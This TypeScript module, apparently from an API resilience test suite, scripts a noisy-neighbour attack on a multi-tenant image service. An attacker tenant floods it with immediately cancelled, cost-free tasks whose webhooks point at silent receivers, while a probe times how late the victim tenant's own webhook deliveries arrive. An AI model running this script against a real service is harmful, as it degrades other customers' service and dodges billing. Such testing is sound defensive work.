import { setTimeout as sleep } from 'node:timers/promises';
import type { Attack, Outcome, Scene } from './attack.js';
import { send } from './client.js';
import type { Tenant } from './target.js';
import { besideVictim, type Paced, type Probe } from './victim.js';

const CANCELLED_TASKS = 440;
const DELIVERY_LIMIT_MS = 30_000;

/** A test event to the victim's own receiver, until it has come. */
async function deliveryProbe({ target, victim, receivers }: Scene): Promise<Probe> {
  const endpoints = '/v1/webhooks/endpoints';
  const added = await send(target.url, victim.tenant.key, {
    method: 'POST',
    path: endpoints,
    body: { url: receivers.goodUrl },
  });
  const { data } = JSON.parse(added.text) as { data: { id: string } };
  return async ({ key }) => {
    const { text, status } = await send(target.url, key, {
      method: 'POST',
      path: `${endpoints}/${data.id}/test`,
      body: '{}',
    });
    if (status !== 200) throw new Error(`a test was answered with ${status}: ${text}`);
    const { data: sent } = JSON.parse(text) as { data: { delivery_id: string } };
    const deadline = Date.now() + DELIVERY_LIMIT_MS;
    while (!receivers.arrived.has(sent.delivery_id)) {
      if (Date.now() > deadline) throw new Error('the delivery never came');
      await sleep(10);
    }
  };
}

/** Many receivers that never answer, called about tasks that cost nothing because they are cancelled at once. */
const silentReceivers: Attack = {
  name: 'webhooks to 110 receivers that never answer',
  run: async (scene): Promise<Outcome> => {
    const attacker = await scene.tenant('10');
    const probe = await deliveryProbe(scene);
    const count = CANCELLED_TASKS * scene.intensity.scale;
    // An account may ask for ten tests a minute.
    const pacedProbe: Paced = { probe, pauseMs: 6_500 };
    const measured = await besideVictim(scene.victim, pacedProbe, () => submitAndCancel(scene, attacker, count), 6_000);
    return { ...measured, bill: { chargedMicros: await scene.target.chargedMicros(attacker), dueMicros: 0n } };
  },
};

async function submitAndCancel({ target, receivers }: Scene, { key }: Tenant, count: number): Promise<void> {
  for (let index = 0; index < count; index += 1) {
    const order = {
      model: 'eta-image-2.0',
      prompt: '[sandbox:delay=60000] a lighthouse',
      webhook_url: receivers.silentUrl(index),
    };
    const { text } = await send(target.url, key, { method: 'POST', path: '/v1/images/generations', body: order });
    const { data } = JSON.parse(text) as { data?: readonly [{ task_id: string }] };
    if (!data) throw new Error(`a submission was answered with ${text}`);
    await send(target.url, key, { method: 'POST', path: `/v1/tasks/${data[0].task_id}/cancel`, body: '{}' });
  }
  await sleep(10_000);
}

export const WEBHOOK_ATTACKS: readonly Attack[] = [silentReceivers];
